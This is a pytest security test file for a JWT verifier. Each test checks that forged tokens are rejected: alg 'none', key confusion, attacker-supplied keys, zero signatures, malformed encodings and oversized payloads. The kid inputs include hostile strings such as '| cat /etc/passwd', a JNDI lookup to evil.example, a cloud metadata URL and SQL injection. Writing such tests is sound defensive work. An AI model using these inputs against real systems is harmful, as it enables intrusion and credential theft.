"""Attacks on tokens, each against real keys: none is believed, and none is answered otherwise than another."""

import base64
import hmac
import json
from typing import Any

import pytest

from streamgauge.access import claims as token_claims
from streamgauge.access.tokens import LONGEST_TOKEN, Tokens
from tests.unit.access.identity_provider import (
    AUDIENCE,
    ISSUER,
    Published,
    claims,
    default_algorithm,
    encoded,
    jwk,
    jwk_set,
    pem,
    signed,
    token,
    told,
)

NAMES = ("rsa", "ec", "ed")
GOOD = json.dumps(claims()).encode()


@pytest.fixture(params=NAMES)
def name(request: pytest.FixtureRequest) -> str:
    """Each of the provider's keys."""
    return str(request.param)


async def believed(credential: str, *keys: dict[str, Any]) -> bool:
    """Whether a server that knows these keys, or the provider's three, believes it."""
    return await Tokens(told(), Published(*keys)).verify(credential) is not None


def unsigned(header: dict[str, Any], signature: bytes | None = b"") -> str:
    """A token nobody signed."""
    text = f"{encoded(json.dumps(header).encode())}.{encoded(GOOD)}"
    return text if signature is None else f"{text}.{encoded(signature)}"


def by_secret(header: dict[str, Any], secret: bytes, digest: str) -> str:
    """A token signed as HS256 to HS512 do, with what anybody may know."""
    text = f"{encoded(json.dumps(header).encode())}.{encoded(GOOD)}"
    return f"{text}.{encoded(hmac.digest(secret, text.encode(), digest))}"


async def test_what_is_attacked_is_believed_when_nobody_attacks(name: str) -> None:
    assert await believed(token(name))


@pytest.mark.parametrize(
    "algorithm", ["none", "None", "NONE", "nOnE", "none ", " none", "none\0", "", None, False, 0, [], {}]
)
async def test_a_token_that_says_it_needs_no_signature_is_not_believed(name: str, algorithm: Any) -> None:
    header = {"alg": algorithm, "kid": name, "typ": "JWT"}
    signature = base64.urlsafe_b64decode(token(name).rpartition(".")[2] + "==")
    for given in (b"", b"\0", None, signature):
        assert not await believed(unsigned(header, given))
    assert not await believed(signed(name, default_algorithm(name), header, GOOD))


async def test_a_token_without_algorithm_is_not_believed(name: str) -> None:
    assert not await believed(token(name, alg=None))


@pytest.mark.parametrize("digest", ["sha256", "sha384", "sha512"])
async def test_a_public_key_is_no_secret_to_sign_with(name: str, digest: str) -> None:
    public = jwk(name)
    forms = (
        pem(name),
        pem(name).strip(),
        pem(name).replace(b"\n", b"\r\n"),
        base64.b64decode(b"".join(pem(name).splitlines()[1:-1])),
        json.dumps(public).encode(),
        json.dumps(public, separators=(",", ":"), sort_keys=True).encode(),
        jwk_set(public),
        str(public.get("n") or public["x"]).encode(),
        b"",
    )
    for header in ({"alg": f"HS{digest[3:]}", "kid": name}, {"alg": default_algorithm(name), "kid": name}):
        for secret in forms:
            assert not await believed(by_secret(header, secret, digest))


async def test_a_symmetric_key_in_the_set_verifies_nothing() -> None:
    secret = {"kty": "oct", "k": encoded(b"s" * 64), "kid": "rsa"}
    for algorithm in ("HS256", "RS256"):
        for entry in (secret, {**secret, "alg": algorithm}):
            credential = by_secret({"alg": algorithm, "kid": "rsa"}, b"s" * 64, "sha256")
            assert not await believed(credential, entry)


@pytest.mark.parametrize(
    "kid",
    [
        "../../../../dev/null",
        "/dev/null",
        "file:///dev/null",
        "https://evil.example/keys",
        "http://169.254.169.254/latest/meta-data",
        "' OR '1'='1",
        "rsa' UNION SELECT 'key'--",
        "rsa\0",
        "\0",
        "",
        "rsa ",
        "RSA",
        "rsa\n",
        "| cat /etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "rsa" * 1000,
    ],
    ids=lambda kid: repr(kid)[:24],
)
async def test_a_kid_is_only_ever_compared(kid: str) -> None:
    published = Published()
    tokens = Tokens(told(), published)
    assert await tokens.verify(token("rsa")) is not None
    sources: list[str] = []
    tokens._keys._fetch = lambda source: sources.append(source) or published.keys  # type: ignore[func-returns-value]  # append gives None
    assert await tokens.verify(token("rsa", kid=kid)) is None
    for secret in (b"", b"\0", b"key"):
        assert await tokens.verify(by_secret({"alg": "HS256", "kid": kid}, secret, "sha256")) is None
    assert set(sources) <= {told().jwt_jwks}


@pytest.mark.parametrize("kid", [1, 0, True, False, [], ["rsa"], {}, {"rsa": 1}, 1.5], ids=repr)
async def test_a_kid_that_is_no_text_is_refused(kid: Any) -> None:
    assert not await believed(token("rsa", kid=kid))
    # Not even where one key alone could be meant.
    assert not await believed(token("rsa", kid=kid), jwk("rsa", kid=None))


@pytest.mark.parametrize(
    "audience",
    [
        None,
        "",
        "streamgauge2",
        "stream",
        "STREAMGAUGE",
        "streamgauge ",
        "streamgauge,account",
        [],
        [""],
        ["account"],
        ["account", "stream"],
        [["streamgauge"]],
        ["streamgauge", 1],
        ["streamgauge", None],
        {"streamgauge": True},
        {"0": "streamgauge"},
        1,
        True,
    ],
    ids=repr,
)
async def test_a_token_for_others_is_not_believed(name: str, audience: Any) -> None:
    assert not await believed(token(name, payload=claims(aud=audience)))


@pytest.mark.parametrize(
    "issuer",
    [
        None,
        "",
        "https://evil.example/",
        ISSUER[:-1],
        ISSUER + "/",
        ISSUER.upper(),
        ISSUER + "\x00",
        [ISSUER],
        [],
        {ISSUER: 1},
        1,
        True,
    ],
    ids=repr,
)
async def test_a_token_of_another_issuer_is_not_believed(name: str, issuer: Any) -> None:
    assert not await believed(token(name, payload=claims(iss=issuer)))


@pytest.mark.parametrize(
    "time",
    [
        "null",
        '"4102444800"',
        '"soon"',
        '""',
        "true",
        "[4102444800]",
        "{}",
        "NaN",
        "Infinity",
        "-Infinity",
        "1e400",
        "-1e400",
        "1e308",
        "9" * 400,
        "9" * 5000,
        "-1",
        "0",
        "1e3",
        "0.5",
        "1.5e-5",
        "-" + "9" * 400,
    ],
    ids=lambda time: time[:12],
)
@pytest.mark.parametrize("claim", ["exp", "nbf", "iat"])
async def test_a_time_is_a_number_within_reason(claim: str, time: str) -> None:
    payload = json.dumps({**claims(), claim: "HERE"}).replace('"HERE"', time).encode()
    # Small numbers are long ago: an end then is over, a beginning then is fine, an issue then is too long ago.
    expected = claim == "nbf" and time in {"-1", "0", "1e3", "0.5", "1.5e-5"}
    assert await believed(signed("rsa", "RS256", {"alg": "RS256", "kid": "rsa"}, payload)) == expected


async def test_a_token_without_end_is_not_believed(name: str) -> None:
    assert not await believed(token(name, payload=claims(exp=None)))


async def test_an_expired_token_is_not_believed(name: str) -> None:
    then = claims()["iat"] - 3600
    assert not await believed(token(name, payload=claims(iat=then, exp=then + 600)))


async def test_a_token_for_later_is_not_believed(name: str) -> None:
    later = claims()["iat"] + 600
    assert not await believed(token(name, payload=claims(nbf=later, exp=later + 600)))


@pytest.mark.parametrize("algorithm", ["RS256", "PS256", "ES256", "EdDSA", "RS512", "ES384", "HS256"])
async def test_a_key_verifies_its_own_algorithms_alone(name: str, algorithm: str) -> None:
    if algorithm == default_algorithm(name):
        algorithm = "none"
    assert not await believed(token(name, alg=algorithm))
    for other in NAMES:
        assert other == name or not await believed(token(name, alg=algorithm, kid=other))


async def test_another_key_of_the_same_kind_is_not_the_provider_s(name: str) -> None:
    assert not await believed(token(f"{name}-attacker", kid=name))


async def test_a_key_made_for_one_algorithm_verifies_no_other() -> None:
    only = jwk("rsa", alg="PS256")
    assert await believed(token("rsa", "PS256"), only)
    assert not await believed(token("rsa", "RS256"), only)
    assert not await believed(token("rsa", "RS256"), jwk("rsa", alg="RSA-OAEP"))


async def test_a_key_for_encryption_verifies_nothing(name: str) -> None:
    assert not await believed(token(name), jwk(name, use="enc"))
    assert not await believed(token(name), jwk(name, use=None, key_ops=["encrypt"]))
    assert await believed(token(name), jwk(name, use=None, key_ops=["verify"]))


async def test_an_algorithm_that_is_not_set_is_refused_though_a_key_would_do(name: str) -> None:
    others = {"rsa": "ES256,EdDSA", "ec": "RS256,EdDSA", "ed": "RS256,ES256"}
    assert await Tokens(told(jwt_algorithms=others[name]), Published()).verify(token(name)) is None


async def test_keys_that_a_token_brings_or_names_are_not_looked_at(name: str) -> None:
    attacker = f"{name}-attacker"
    brought = (
        {"jwk": jwk(attacker, kid=name)},
        {"jku": "https://evil.example/keys"},
        {"x5u": "https://evil.example/certificate"},
        {"x5c": [base64.b64encode(pem(attacker)).decode()]},
    )
    sources: list[str] = []
    published = Published()
    tokens = Tokens(told(), lambda source: sources.append(source) or published(source))  # type: ignore[func-returns-value]  # append gives None
    for header in brought:
        assert await tokens.verify(token(attacker, kid=name, **header)) is None
        assert await tokens.verify(token(attacker, kid=attacker, **header)) is None
        # Some providers put them in; the signature is what counts.
        assert await tokens.verify(token(name, **header)) is not None
    assert set(sources) == {told().jwt_jwks}


@pytest.mark.parametrize(
    "header",
    [
        {"crit": ["b64"], "b64": False},
        {"crit": ["b64"], "b64": True},
        {"b64": False},
        {"b64": True},
        {"crit": ["exp"], "exp": 1},
        {"crit": []},
        {"crit": "b64"},
        {"crit": {}},
    ],
    ids=str,
)
async def test_extensions_are_refused(name: str, header: dict[str, Any]) -> None:
    assert not await believed(token(name, **header))


async def test_a_payload_beside_the_token_is_not_looked_at(name: str) -> None:
    start, _, end = token(name, crit=["b64"], b64=False).split(".")
    assert not await believed(f"{start}..{end}")


async def test_a_stripped_or_changed_signature_is_no_signature(name: str) -> None:
    good = token(name)
    text, _, signature = good.rpartition(".")
    raw = base64.urlsafe_b64decode(signature + "=" * (-len(signature) % 4))
    changed = [b"", b"\0", raw[:-1], raw + b"\0", b"\0" * len(raw), bytes([raw[0] ^ 1]) + raw[1:], raw[::-1]]
    for each in (text, f"{text}.", *(f"{text}.{encoded(part)}" for part in changed)):
        assert not await believed(each)


async def test_a_signature_of_zeros_is_none_even_for_elliptic_curves() -> None:
    # CVE-2022-21449: r = s = 0 satisfied a verifier that did not look at their range.
    for value in (bytes(64), bytes(31) + b"\1" + bytes(32), bytes(32) + bytes(31) + b"\1"):
        text = token("ec").rpartition(".")[0]
        assert not await believed(f"{text}.{encoded(value)}")


async def test_a_signature_belongs_to_its_own_payload(name: str) -> None:
    header, _, signature = token(name).split(".")
    admin = encoded(json.dumps(claims(role="admin")).encode())
    assert not await believed(f"{header}.{admin}.{signature}")


async def test_a_token_is_written_in_one_way(name: str) -> None:
    good = token(name)
    header, payload, signature = good.split(".")
    variants = [
        *(f"{blank}{good}" for blank in " \t\r\n\0\x0b\ufeff\u00a0"),
        *(f"{good}{blank}" for blank in " \t\r\n\0\x0b\ufeff=."),
        f"{header} .{payload}.{signature}",
        f"{header}.{payload}\n.{signature}",
        f"{header}.{payload[:9]}\n{payload[9:]}.{signature}",
        f"{header}.{payload}.{signature[:9]} {signature[9:]}",
        f"{header}==.{payload}.{signature}",
        f"{header}.{payload}.{signature}==",
        f"{header}.{payload}.{signature}=",
        f"{header}.{payload}..{signature}",
        f".{header}.{payload}.{signature}",
        f"{good}.{signature}",
        f"{header}.{payload}.{signature}.{payload}.{signature}",
        f"Bearer {good}",
        good.replace(".", "\uff0e"),
        good.replace(".", "%2E"),
        good[:-1] + chr(ord(good[-1]) + 0xFEE0),
        f"{{{good}}}",
        json.dumps({"protected": header, "payload": payload, "signature": signature}),
    ]
    for each in variants:
        assert not await believed(each), each


async def test_the_bits_left_over_in_base64_are_zero(name: str) -> None:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    good = token(name)
    for last in alphabet:
        assert await believed(good[:-1] + last) == (last == good[-1])


async def test_the_standard_alphabet_is_not_the_one_for_addresses() -> None:
    # Of a few signatures one has a character that differs.
    for credential in (token("ed", payload=claims(number=number)) for number in range(20)):
        assert await believed(credential)
        other = credential.replace("-", "+").replace("_", "/")
        assert other == credential or not await believed(other)


async def test_an_encrypted_token_is_none(name: str) -> None:
    header = encoded(json.dumps({"alg": "RSA-OAEP", "enc": "A256GCM", "kid": name}).encode())
    assert not await believed(
        f"{header}.{encoded(b'k' * 256)}.{encoded(b'i' * 12)}.{encoded(GOOD)}.{encoded(b't' * 16)}"
    )
    assert not await believed(token(name, enc="A256GCM", alg="RSA-OAEP"))


async def test_a_token_within_a_token_is_no_claims(name: str) -> None:
    inner = token(name).encode()
    header = {"alg": default_algorithm(name), "kid": name, "cty": "JWT"}
    assert not await believed(signed(name, default_algorithm(name), header, inner))


async def test_a_token_of_100_kilobytes_is_refused_before_it_is_read(name: str) -> None:
    long = token(name, payload=claims(more="x" * 75_000))
    assert len(long) > 100_000
    assert not await believed(long)
    for text in ("." * 100_000, "a" * 100_000, "a." * 50_000, "eyJ" + "\u2603" * 100_000):
        assert not await believed(text)


async def test_the_longest_token_has_eight_kibibytes() -> None:
    assert LONGEST_TOKEN == 8192
    fill = next(count for count in range(5000, 7000) if len(token(payload=claims(more="x" * count))) > 8192)
    assert await believed(token(payload=claims(more="x" * (fill - 1))))
    assert not await believed(token(payload=claims(more="x" * fill)))


@pytest.mark.parametrize("depth", [501, 2000])
async def test_deeply_nested_claims_are_refused(name: str, depth: int) -> None:
    nests = [
        "[" * depth + "]" * depth,
        '{"a":' * (depth // 2) + "[" * depth + "]" * depth + "}" * (depth // 2),
    ]
    for nest in nests:
        payload = json.dumps({**claims(), "more": "HERE"}).replace('"HERE"', nest).encode()
        header = {"alg": default_algorithm(name), "kid": name}
        assert not await believed(signed(name, default_algorithm(name), header, payload))
        bad = encoded(f'{{"alg":"RS256","more":{nest}}}'.encode())
        assert not await believed(f"{bad}.{encoded(GOOD)}.{encoded(b's' * 256)}")


def test_nesting_that_no_limit_stops_is_refused_all_the_same(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(token_claims, "MOST_BRACKETS", 10**9)
    with pytest.raises(token_claims.RefusedTokenError, match="RecursionError"):
        token_claims.parse_object(b'{"a":' + b"[" * 200_000 + b"]" * 200_000 + b"}")


@pytest.mark.parametrize(
    "payload",
    [
        b"",
        b"null",
        b"[]",
        b'"text"',
        b"1",
        b"{",
        b"{}",
        b"\xff\xfe{}",
        b"{'iss': 1}",
        GOOD + b"x",
        GOOD[:-1],
        b"\xef\xbb\xbf" + GOOD,
        GOOD.decode().encode("utf-16"),
        GOOD.decode().encode("utf-32"),
        GOOD + GOOD,
        b"[" + GOOD + b"]",
        GOOD.replace(b"teacher-7", b"\xff"),
        GOOD.replace(b"{", b'{"role":"admin",', 1),
        GOOD.replace(b"{", b'{"more":NaN,', 1),
        GOOD.replace(b"{", b'{"more":-Infinity,', 1),
    ],
    ids=lambda payload: repr(payload[:12]),
)
async def test_what_is_signed_but_no_plain_object_is_refused(name: str, payload: bytes) -> None:
    header = {"alg": default_algorithm(name), "kid": name}
    assert not await believed(signed(name, default_algorithm(name), header, payload))


@pytest.mark.parametrize(
    "header", [b"null", b"[]", b'"RS256"', b"{", b"", b"\xff", b'{"alg":"none","alg":"RS256"}']
)
async def test_a_header_that_is_no_plain_object_is_refused(header: bytes) -> None:
    assert not await believed(f"{encoded(header)}.{encoded(GOOD)}.{encoded(b's' * 256)}")


async def test_an_algorithm_said_twice_is_refused_though_the_signature_holds() -> None:
    said = b'{"alg":"HS256","alg":"RS256","kid":"rsa"}'
    assert not await believed(signed("rsa", "RS256", said, GOOD))
    assert await believed(signed("rsa", "RS256", b'{"alg":"RS256","kid":"rsa"}', GOOD))


async def test_a_role_of_the_platform_cannot_come_with_a_token(name: str) -> None:
    assert not await believed(token(name, payload=claims(role="owner")))


async def test_the_audience_is_not_looked_for_in_a_text() -> None:
    # "a" in "abc" holds for texts as well as for lists.
    for part in (AUDIENCE[:4], AUDIENCE[1:], "s"):
        assert await Tokens(told(jwt_audience=part), Published()).verify(token()) is None
